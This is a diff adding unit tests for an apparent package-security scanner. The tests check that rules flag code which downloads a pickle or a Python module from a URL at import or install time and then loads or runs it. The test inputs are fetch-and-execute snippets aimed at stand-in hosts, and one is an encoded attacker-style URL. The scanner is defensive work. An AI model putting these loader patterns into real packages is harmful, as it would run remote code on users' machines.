@@ -573,3 +573,48 @@ def test_exec_of_code_from_a_configured_server_is_high_and_from_a_written_one_cr
     assert severity("dask.config.get('coiled.server')") == [Severity.HIGH]
     assert Severity.CRITICAL in severity("'http://203.0.113.7:8080'")
     assert Severity.CRITICAL in severity("base64.b64decode('aHR0cDovL2V2aWwuaW52YWxpZA==').decode()")
+
+
+def test_a_pickle_downloaded_as_the_package_loads_versus_a_model_loaded_on_request() -> None:
+    """Unpickling calls whatever functions the data names: a pickle fetched and loaded at import
+    is a loader; a function that loads a model from an address its caller gives is a library."""
+    for loads in ("pickle.loads(requests.get(URL).content)", "dill.loads(urlopen(URL).read())"):
+        loader = py(f"import pickle, dill, requests\nfrom urllib.request import urlopen\nCFG = {loads}\n")
+        assert severities(RULES, loader, "PV-DL-001") == [Severity.CRITICAL], loads
+    library = py(
+        "import pickle, requests\ndef load_model(url):\n    return pickle.loads(requests.get(url).content)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-DL-001" not in ids(run(RULES, library))
+
+
+def test_a_downloaded_module_imported_is_run_versus_an_unrelated_import() -> None:
+    """Saved as ``_ext.py`` beside the package and imported, downloaded source runs as surely
+    as a program started; a function that saves a data file and imports some module runs
+    nothing it fetched."""
+    head = "import importlib, os, runpy, urllib.request\n"
+    head += "P = os.path.join(os.path.dirname(__file__), '_ext.py')\n"
+    fetch = "urllib.request.urlretrieve('http://h.example/m', P)\n"
+    for run_it in ("importlib.import_module('pkg._ext')", "__import__('_ext')", "runpy.run_path(P)"):
+        loader = py(head + fetch + run_it + "\n")
+        assert severities(RULES, loader, "PV-DL-002") == [Severity.CRITICAL], run_it
+    statement = py(
+        head + "with open(P, 'wb') as f:\n    f.write(urllib.request.urlopen(U).read())\nfrom . import _ext\n"
+    )
+    found = [f for f in run(RULES, statement) if f.rule == "PV-DL-002"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 5)]
+    data = py(
+        "import importlib, urllib.request\ndef refresh():\n"
+        "    urllib.request.urlretrieve('https://h.example/tz.json', 'tz.json')\n"
+        "    return importlib.import_module('pkg._ext')\n",
+        stage=Stage.RUNTIME,
+    )
+    assert "PV-DL-002" not in ids(run(RULES, data))
+    version = py(
+        "import urllib.request\nLATEST = urllib.request.urlopen('https://h.example/v').read()\n"
+        "with open('pkg/_version.py', 'w') as f:\n    f.write('__version__ = \"1.0\"')\n"
+        "from pkg import _version\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert "PV-DL-002" not in ids(run(RULES, version))
